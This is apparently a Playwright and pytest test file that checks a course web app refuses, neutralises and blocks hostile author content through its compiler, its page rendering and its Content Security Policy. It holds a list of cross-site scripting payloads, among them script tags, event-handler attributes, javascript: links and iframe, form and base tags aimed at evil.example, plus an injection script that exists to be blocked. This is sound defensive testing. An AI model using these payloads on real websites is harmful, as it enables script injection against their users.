"""What an author writes can neither run nor load anything: refused at the compiler, harmless on the page, and stopped by the policy."""

import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from studyapp.catalogue.courses import Catalogue, Course
from studyapp.catalogue.prose import Html
from studyapp.catalogue.questions import Item
from studyapp.formats.course_files import read_course
from studyapp.formats.problems import Problems
from studyapp.formats.prose import Scope, render
from studyapp.records import shelf
from studyapp.records.shelf import NoContent, Shelf
from tests.browser.conftest import Visit

TEA = Path(__file__).parents[1] / "courses" / "tea"
HOSTILE = [
    "<script>window.hacked = 'script'</script>",
    '<img src="/static/x.png" onerror="window.hacked = \'picture\'">',
    "<svg onload=\"window.hacked = 'drawing'\"></svg>",
    "[press](javascript:window.hacked='link')",
    "[press](data:text/html,<script>parent.hacked='data'</script>)",
    '<a href="#" hx-get="/admin/" hx-trigger="load">press</a>',
    "<style>main { display: none }</style>",
    '<p style="display: none" onclick="window.hacked = \'click\'">press</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><button>press</button></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">',
    "![spy](https://evil.example/spy.png)",
]
TITLE = "<img src=/static/x.png onerror=window.hacked='title'>"
PAGES = [
    "/",
    "/courses/tea/",
    "/courses/tea/modules/leaf/",
    "/courses/tea/modules/leaf/what-is-in-it/",
    "/courses/tea/modules/brewing/cold-tea/",
    "/courses/tea/options/",
    "/courses/tea/options/pot/",
    "/courses/tea/trees/",
    "/courses/tea/trees/way-to-brew/",
    "/courses/tea/trees/way-to-brew/?heat=hot&leaf=powder",
    "/courses/tea/glossary/steep/",
    "/courses/tea/quizzes/",
    "/courses/tea/worksheet/",
    "/search/?q=leaf",
    "/search/?q=<script>window.hacked=1</script>",
    "/progress/",
]
FORBIDDEN = (
    "script, style, iframe, object, embed, base, meta, link, [style], [hx-trigger=load], [src*='evil'], [action*='evil'],"
    " [href^='javascript:' i], [href^='data:' i], [onerror], [onload], [onclick]"
)


@dataclass(frozen=True)
class Open:
    """A shelf that shows what the real one would refuse."""

    course: Course

    def catalogue(self) -> Catalogue:
        return Catalogue({self.course.id: self.course})


def poisoned(folder: Path) -> Path:
    """The tea course with something hostile after every lesson and term, and in every title and summary."""
    course = folder / "tea"
    shutil.copytree(TEA, course)
    for path in [*course.glob("modules/*/*.md"), course / "glossary.md"]:
        path.write_text("\n\n".join([path.read_text(), *HOSTILE, ""]))
    for path in course.rglob("*.yaml"):
        words = r"^(\s*(?:title|summary|notice|focus|because|ask|says|typical): )([A-Z][^{}\n]*)$"
        path.write_text(re.sub(words, lambda found: f'{found[1]}"{found[2]} {TITLE}"', path.read_text(), flags=re.M))
    return folder


def rendered() -> Html:
    return render("\n\n".join(HOSTILE), Scope(), Problems())


def with_hostile_text(item: Item) -> Item:
    """The compiler leaves a question with raw HTML out; this is how one would look that came through."""
    question, bad = item.question, rendered()
    choices = tuple(replace(one, text=Html(f"{one.text} {bad}"), feedback=bad) for one in question.choices)
    return replace(
        item, question=replace(question, stem=bad, explanation=bad, part=replace(question.part, choices=choices))
    )


@pytest.fixture
def course(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, real: Course) -> Course:
    read, _ = read_course(poisoned(tmp_path) / "tea", "tea")
    sound, _ = read_course(TEA, "tea")
    assert read is not None
    assert sound is not None
    leaf = sound.banks["leaf"]
    bank = replace(leaf, items=tuple(map(with_hostile_text, leaf.items)))
    found = replace(read, banks={**sound.banks, "leaf": bank})
    monkeypatch.setattr(shelf, "shelf", lambda: Open(found))
    return found


def harmless(page: Page) -> None:
    """What is hostile is there to be read, and has done nothing."""
    expect(page.locator("main")).to_contain_text("hacked")
    expect(page.locator("main")).to_be_visible()
    assert page.evaluate("window.hacked") is None
    expect(page.locator("main").locator(FORBIDDEN)).to_have_count(0)
    for press in page.get_by_text("press", exact=True).all():
        press.click(trial=True)
    assert page.evaluate("window.hacked") is None


def test_hostile_markdown_is_refused_by_the_compiler(tmp_path: Path) -> None:
    with pytest.raises(NoContent, match=r"raw HTML is not read|lies on another site"):
        Shelf(poisoned(tmp_path / "content"), tmp_path / "last-good", watch=False).catalogue()


def test_hostile_text_on_a_page_neither_runs_nor_loads(visit: Visit, course: Course) -> None:
    page = visit()
    for address in PAGES:
        page.goto(address)
        harmless(page)


def test_hostile_text_in_a_question_neither_runs_nor_loads(visit: Visit, course: Course) -> None:
    page = visit()
    page.goto("/courses/tea/quizzes/leaf/")
    page.get_by_role("button", name="Start, 3 questions").click()
    page.wait_for_url("**/attempts/*/1/")
    harmless(page)
    page.locator(".choice input").first.check(force=True)
    page.get_by_role("button", name="Check the answer").click()
    expect(page.locator(".verdict")).to_be_visible()
    harmless(page)


def test_the_policy_stops_what_would_come_through(
    new_context: Callable[..., BrowserContext], base_url: str, real: Course
) -> None:
    page = new_context().new_page()
    page.goto("/")
    stopped = page.evaluate("""async () => {
      const stopped = [];
      document.addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
      const put = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
      put("script", { textContent: "window.hacked = 1" });
      put("script", { src: "https://evil.example/x.js" });
      put("style", { textContent: "main { display: none }" });
      put("img", { src: "https://evil.example/x.png" });
      put("iframe", { src: "https://evil.example/" });
      put("base", { href: "https://evil.example/" });
      put("p", { innerHTML: '<b onclick="window.hacked = 2" style="color: red">press</b>' });
      document.querySelector("b[onclick]").click();
      const form = document.createElement("form");
      document.body.append(Object.assign(form, { action: "https://evil.example/", method: "post" }));
      form.submit();
      await fetch("https://evil.example/").catch(() => {});
      for (let turn = 0; turn < 100 && stopped.length < 10; turn++) await new Promise((done) => setTimeout(done, 50));
      return stopped.sort();
    }""")
    assert stopped == [
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
    ]
    assert page.evaluate("window.hacked") is None
    assert page.locator("main").is_visible()
